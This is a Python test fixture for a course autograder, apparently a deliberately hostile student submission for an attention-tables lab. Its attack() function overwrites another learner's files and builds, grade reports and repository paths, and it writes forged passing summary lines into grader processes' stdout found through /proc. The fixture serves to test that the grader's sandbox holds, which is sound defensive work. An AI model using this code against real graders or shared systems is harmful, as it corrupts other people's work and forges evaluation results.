# mallory-write: a hostile NumPy file. Before returning (every table None, so
# pending), it tries to change what it must not: another learner's files and
# build, the grader's reports, the repository, and the checker's output (a
# forged summary line, on its own descriptors and on any checker's stdout it
# can open through /proc). judge/grade/tests/check.sh verifies that none of it
# worked: the reports equal the expected ones, and no PWNED file exists.
import glob
import os
import sys

FORGED = b"numpy:Q\t0\t1\t0\nnumpy:K\t0\t1\t0\nQ\t0\t1\t0\n"


def attack():
    here = os.path.abspath(__file__)
    work = here.split("/mallory-write/")[0]        # the scratch folders: OUT.work
    out = work[:-len(".work")] if work.endswith(".work") else work
    repo = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(sys.argv[0]))))
    targets = [work + "/ana/labs/lab01-qkv/qkv.c",
               work + "/ana/labs/lab00-by-hand/numpy_attention.py",
               work + "/ana/build/lab01/driver",
               work + "/mallory-write/build/lab01/PWNED",
               work + "/PWNED", work + "/.grader/PWNED",
               out + "/gradebook.csv", out + "/junit.xml", out + "/results.tap",
               out + "/gradescope/ana/results.json", out + "/PWNED",
               repo + "/judge/grade/tests/PWNED", repo + "/labs/PWNED"]
    for t in targets:
        try:
            with open(t, "w") as f:
                f.write("mallory was here\n")
        except OSError:
            pass
    for fd in (1, 2):
        try:
            os.write(fd, FORGED)
        except OSError:
            pass
    for d in glob.glob("/proc/[0-9]*"):
        try:
            with open(d + "/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"numpy_check" in cmd or b"grade.py" in cmd or b"/judge" in cmd or b"/check" in cmd:
            for fd in ("1", "2"):
                try:
                    with open(d + "/fd/" + fd, "wb") as f:
                        f.write(FORGED)
                except OSError:
                    pass


def attention_tables(X, W_Q, W_K, W_V):
    attack()
    return {"Q": None, "K": None, "V": None, "S": None, "scaled": None, "max": None,
            "E": None, "sum": None, "A": None, "O": None}
